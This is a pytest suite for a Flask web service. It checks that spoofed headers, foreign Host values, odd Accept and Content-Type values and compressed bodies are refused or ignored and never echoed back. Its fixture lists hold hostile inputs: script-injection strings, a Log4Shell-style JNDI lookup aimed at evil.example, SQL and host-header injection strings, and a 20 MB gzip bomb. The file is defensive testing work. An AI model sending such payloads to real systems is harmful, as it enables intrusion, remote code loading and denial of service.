"""Hostile headers: answered as without them, or refused; nothing in them is reflected, trusted or taken for an order."""

import gzip
import zlib

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from service import create_app
from service.settings import Settings
from tests.hostile.seeing import calm

ADDRESSES = ["/", "/articles/what-is-leverage", "/embed/recovery?loss=0.5", "/v1/rules", "/v1/calculators/recovery/result?loss=0.5",
             "/charts/recovery.svg?loss=0.5", "/sitemap.xml", "/nope", "/docs"]  # fmt: skip
SPOOFED = {
    "X-Forwarded-For": "203.0.113.9, <script>",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "javascript",
    "X-Forwarded-Port": "6666",
    "X-Forwarded-Prefix": "//evil.example",
    "Forwarded": 'for="[::1]";host=evil.example;proto=https',
    "X-Original-URL": "/metrics",
    "X-Rewrite-URL": "/metrics",
    "X-HTTP-Method-Override": "DELETE",
    "X-Real-IP": "127.0.0.1",
    "Client-IP": "127.0.0.1",
    "Referer": "https://evil.example/<script>",
    "User-Agent": "<script>trapped(1)</script>",
    "Cookie": "session=evil; " * 100,
    "Authorization": "Basic " + "A" * 4_000,
    "Origin": "null",
    "Range": "bytes=0-0,0-0,0-0",
    "If-None-Match": '"' + "," * 4_000,
    "If-Modified-Since": "the day before yesterday",
    "Accept-Language": "xx-" * 500,
    "Accept-Encoding": "gzip;q=NaN, *;q=1e400, br;q=-1",
    "Expect": "200-maybe",
    "Upgrade": "h2c",
    "traceparent": "00-<script>-x-01",
    "X-Request-ID": "${jndi:ldap://evil.example/a}",
}
HOSTS = ["evil.example", "localhost@evil.example", "localhost:80@evil.example", "localhost,evil.example", "localhost#evil.example",
         "localhost/evil.example", "evil.example:localhost", "localhost.", "127.1", "0x7f000001", "[::1]evil", "local\thost",
         "localhost:abc", "xn--lcalhost-n4a", "ⓛocalhost".encode().decode("latin-1"), "<script>", "' OR 1=1"]  # fmt: skip
ACCEPTS = ["nonsense", "*", "/", "a/b/c", "text/html;q=2", "text/html;q=NaN", "*/*;q=1e400", ",,,,", "text/html;" * 500,
           "application/json" + ", x/y" * 1_000, "<script>", "text/html, */*;q=0", "application/pickle"]  # fmt: skip
TYPES = ["application/json, text/csv", "text/csv;charset=utf-7", "application/json;charset=utf-16", "application/x-yaml",
         "application/x-python-pickle", "application/xml", "multipart/form-data; boundary=", "multipart/form-data; boundary=x",
         "multipart/form-data", "application/x-www-form-urlencoded", ";", "application/json" * 300, "text/csv" + ";a" * 2_000,
         "<script>", "application/json\x0b", "APPLICATION/JSON;"]  # fmt: skip
PACKED = {"gzip": gzip.compress, "deflate": zlib.compress}


@pytest.mark.parametrize("name", SPOOFED)
def test_a_hostile_header_changes_no_answer(client: FlaskClient, name: str) -> None:
    for address in ADDRESSES:
        plain, told = client.get(address), client.get(address, headers={name: SPOOFED[name]})
        calm(told)
        assert told.status_code in (plain.status_code, 206, 416), address
        assert "evil" not in str(told.headers)
        if name not in ("Range", "Accept-Encoding"):
            assert _unnamed(plain) == _unnamed(told), address


def _unnamed(response: TestResponse) -> bytes:
    """A body without the name of its request."""
    return response.data.replace(response.headers["X-Request-ID"].encode(), b"")


@pytest.mark.parametrize("host", HOSTS)
def test_a_host_that_is_none_of_ours_is_refused_and_not_repeated(client: FlaskClient, host: str) -> None:
    for address in ADDRESSES:
        said = client.get(address, headers={"Host": host})
        assert said.status_code == 400, (address, host)
        assert "evil" not in said.text + str(said.headers)
        calm(said)


@pytest.mark.parametrize("accept", ACCEPTS)
def test_a_strange_wish_for_a_form_is_met_or_refused(client: FlaskClient, accept: str) -> None:
    for address in ADDRESSES:
        calm(client.get(address, headers={"Accept": accept}), 200, 404, 406)
    for address in ("/v1/chat", "/mcp", "/v1/calculators/recovery"):
        calm(client.post(address, json={"loss": 0.5}, headers={"Accept": accept}), 200, 202, 400, 406, 422)


@pytest.mark.parametrize("kind", TYPES)
def test_a_strange_kind_of_body_is_refused_or_read_as_what_it_says(client: FlaskClient, kind: str) -> None:
    for address in ("/v1/simulations", "/v1/calculators/recovery", "/v1/chat", "/mcp", "/figures/simulation"):
        calm(client.post(address, data=b'{"loss": 0.5}', headers={"Content-Type": kind}), 200, 202, 400, 404, 415, 422)


@pytest.mark.parametrize("packing", [*PACKED, "br", "zstd", "identity, gzip", "x" * 500])
def test_a_packed_body_is_never_unpacked(client: FlaskClient, packing: str) -> None:
    bomb = PACKED.get(packing, gzip.compress)(b'{"loss": 0.5}' + b" " * 20_000_000)
    for address in ("/v1/simulations", "/v1/calculators/recovery", "/v1/chat", "/mcp"):
        calm(
            client.post(address, data=bomb, content_type="application/json", headers={"Content-Encoding": packing}), 400
        )


def behind(hops: int) -> Flask:
    """A service behind so many proxies."""
    return create_app(Settings(proxy_hops=hops, allowed_hosts=("ours.example",), rate_limit="1 per hour", log_level="error",
                               job_workers=0))  # fmt: skip


@pytest.mark.parametrize(
    ("hops", "statuses"),
    [(0, [200, 429, 429]), (1, [200, 200, 429]), (2, [200, 429, 429])],
    ids=["the socket's address", "the last address", "the last but one"],
)
def test_a_caller_is_told_by_exactly_so_many_proxies_as_there_are(hops: int, statuses: list[int]) -> None:
    client = behind(hops).test_client()
    entries = ("192.0.2.9, 192.0.2.7, 192.0.2.1", "192.0.2.8, 192.0.2.7, 192.0.2.2", "192.0.2.6, 192.0.2.7, 192.0.2.2")
    for number, (forwarded, status) in enumerate(zip(entries, statuses, strict=True), 1):
        sent = {"X-Forwarded-For": forwarded, "Host": "ours.example"}
        address = f"/v1/calculators/recovery/result?loss=0.{number}"  # what is asked again is answered without counting
        assert client.get(address, headers=sent).status_code == status


@pytest.mark.parametrize(
    ("hops", "host", "status"), [(0, "ours.example", 200), (0, "evil.example", 400), (1, "evil.example", 400)]
)
def test_the_host_that_a_proxy_names_is_looked_at_like_any_other(hops: int, host: str, status: int) -> None:
    sent = {"Host": "ours.example" if hops else host, "X-Forwarded-Host": host if hops else "evil.example"}
    told = behind(hops).test_client().get("/sitemap.xml", headers=sent)
    assert told.status_code == status
    assert "evil" not in told.text
